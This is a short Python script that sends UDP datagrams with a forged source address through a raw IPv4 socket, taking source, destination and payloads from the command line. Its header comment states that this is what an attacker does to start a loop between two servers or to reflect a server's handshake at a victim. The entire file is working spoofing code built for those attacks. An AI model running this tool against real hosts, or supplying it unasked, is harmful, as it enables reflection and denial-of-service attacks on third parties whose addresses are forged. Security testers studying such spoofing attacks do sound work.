# Sends UDP datagrams with a forged source address, through a raw IPv4
# socket (root): forge_udp.py SRC_IP SRC_PORT DST_IP DST_PORT [--hex] PAYLOAD...
# One datagram per payload (with --hex, each payload is hexadecimal bytes).
# What an attacker does to start a loop between two servers, or to reflect
# a server's handshake at a victim.
import socket
import struct
import sys

src, sport, dst, dport = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
# IPPROTO_RAW implies IP_HDRINCL; the kernel fills in the IP checksum.
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
payloads = sys.argv[5:]
binary = payloads[:1] == ["--hex"]
for payload in payloads[1:] if binary else payloads:
    data = bytes.fromhex(payload) if binary else payload.encode()
    total = 20 + 8 + len(data)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, 0, 0x4000, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    # UDP checksum 0: none, allowed over IPv4.
    udp = struct.pack("!HHHH", sport, dport, 8 + len(data), 0)
    raw.sendto(ip + udp + data, (dst, dport))
